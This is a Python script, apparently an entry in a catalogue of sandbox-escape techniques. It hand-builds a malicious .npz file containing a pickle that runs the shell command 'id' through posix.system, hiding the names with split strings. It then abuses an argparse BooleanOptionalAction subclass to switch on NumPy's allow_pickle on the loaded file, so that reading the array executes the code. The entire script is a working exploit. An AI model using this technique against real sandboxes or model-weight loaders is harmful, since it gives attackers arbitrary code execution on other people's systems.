# source: CPython 3.11 Lib/argparse.py BooleanOptionalAction.__call__ (setattr(namespace, self.dest, ...)); numpy 1.24 NpzFile.allow_pickle attribute read in __getitem__; protocol-0 pickle (pyjail cheat sheets: cos\nsystem)
# family: argparse Action subclass hands another object than the namespace to super().__call__ -> setattr on a library object by dest (allow_pickle=True on NpzFile); npz crafted as latin1 text by np.savetxt header
# goal: code execution through pickle.load (runs id)
import argparse
import numpy as np

def crc32(data):
    crc = 0xFFFFFFFF
    for ch in data:
        crc ^= ord(ch)
        for _ in range(8):
            crc = (crc >> 1) ^ (0xEDB88320 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF

def le(n, k):
    return "".join(chr((n >> (8 * i)) & 0xFF) for i in range(k))

mod = "po" + "six"
fn = "sys" + "tem"
pick = "c" + mod + "\n" + fn + "\n(S'id'\ntR."
hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
hdr = hdr + " " * (64 - ((10 + len(hdr) + 1) % 64)) + "\n"
npy = chr(0x93) + "NUMPY" + chr(1) + chr(0) + le(len(hdr), 2) + hdr + pick
name = "a.npy"
crc = crc32(npy)
lfh = "PK" + chr(3) + chr(4) + le(20, 2) + le(0, 2) + le(0, 2) + le(0, 2) + le(33, 2) + le(crc, 4) + le(len(npy), 4) + le(len(npy), 4) + le(len(name), 2) + le(0, 2) + name
cd = "PK" + chr(1) + chr(2) + le(20, 2) + le(20, 2) + le(0, 2) + le(0, 2) + le(0, 2) + le(33, 2) + le(crc, 4) + le(len(npy), 4) + le(len(npy), 4) + le(len(name), 2) + le(0, 2) + le(0, 2) + le(0, 2) + le(0, 2) + le(0, 4) + le(0, 4) + name
off = len(lfh) + len(npy)
eocd = "PK" + chr(5) + chr(6) + le(0, 2) + le(0, 2) + le(1, 2) + le(1, 2) + le(len(cd), 4) + le(off, 4) + le(1, 2)
blob = lfh + npy + cd + eocd
np.savetxt("weights.npz", np.zeros((0, 1)), header=blob, comments="", encoding="latin1")

store = np.load("weights.npz")

class Opt(argparse.BooleanOptionalAction):
    def __call__(self, parser, namespace, values, option_string=None):
        super().__call__(parser, store, values, option_string)

p = argparse.ArgumentParser()
p.add_argument("--allow-pickle", action=Opt)
p.parse_args(["--allow-pickle"])
print(store["a"])
